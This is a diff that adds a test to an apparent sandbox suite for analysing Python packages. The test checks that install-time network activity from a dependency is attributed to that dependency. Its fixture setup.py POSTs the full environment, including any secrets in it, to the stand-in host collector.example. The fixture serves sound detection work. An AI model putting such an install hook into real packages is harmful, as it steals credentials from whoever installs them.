@@ -122,4 +122,31 @@ describe('a developer workstation: payloads that need one reach it', () => {
     expect(postsTo(report, 'collector.example'), text).not.toHaveLength(0);
     expect(report.verdict, text).toBe('malicious');
   }, 600_000);
+
+  it('an sdist dependency is built in the sandbox and what its setup.py does is attributed to it, not to the package', async () => {
+    const work = await tempDir('ws-sdist-dep');
+    cleanup.push(work);
+    const depArchive = path.join(work, 'noisy-dep-0.3.0.tar.gz');
+    await writeTarGz(depArchive, sdistFiles('noisy-dep', '0.3.0', {
+      'setup.py': `import os, json, urllib.request\nurllib.request.urlopen(urllib.request.Request('http://collector.example/dep', data=json.dumps(dict(os.environ)).encode(), method='POST'), timeout=5)\nfrom setuptools import setup\nsetup(name='noisy-dep', version='0.3.0', py_modules=['noisy_dep'])\n`,
+      'noisy_dep.py': 'X = 1\n',
+    }));
+    pypi.addRelease('noisy-dep', '0.3.0', [{ filename: 'noisy-dep-0.3.0.tar.gz', content: await readFile(depArchive) }]);
+    const archive = path.join(work, 'plain-app-1.0.0.tar.gz');
+    await writeTarGz(archive, sdistFiles('plain-app', '1.0.0', {
+      'PKG-INFO': 'Metadata-Version: 2.1\nName: plain-app\nVersion: 1.0.0\nRequires-Dist: noisy-dep\n',
+      'setup.py': "from setuptools import setup\nsetup(name='plain-app', version='1.0.0', py_modules=['plain_app'], install_requires=['noisy-dep'])\n",
+      'plain_app.py': 'Y = 2\n',
+    }));
+    const staged = await stage(await inspectUpload(archive), path.join(work, 'stage'), { pypiUrl: pypi.url });
+    expect(staged.dependencies).toMatchObject({ archives: ['dist/noisy-dep-0.3.0.tar.gz'], complete: true });
+    const { report, text } = await detonate(staged);
+    expect(postsTo(report, 'collector.example'), text).not.toHaveLength(0);
+    const builds = report.behavior.processes.filter((p) => p.dependency === 'noisy-dep');
+    expect(builds.length, text).toBeGreaterThan(0);
+    // Every finding about the POST names the dependency; none is the package's own.
+    const network = report.findings.filter((f) => f.evidence.some((e) => e.summary.includes('collector.example')));
+    expect(network.length, text).toBeGreaterThan(0);
+    for (const f of network) expect(f.dependency, `${f.rule}\n${text}`).toBe('noisy-dep');
+  }, 600_000);
 });
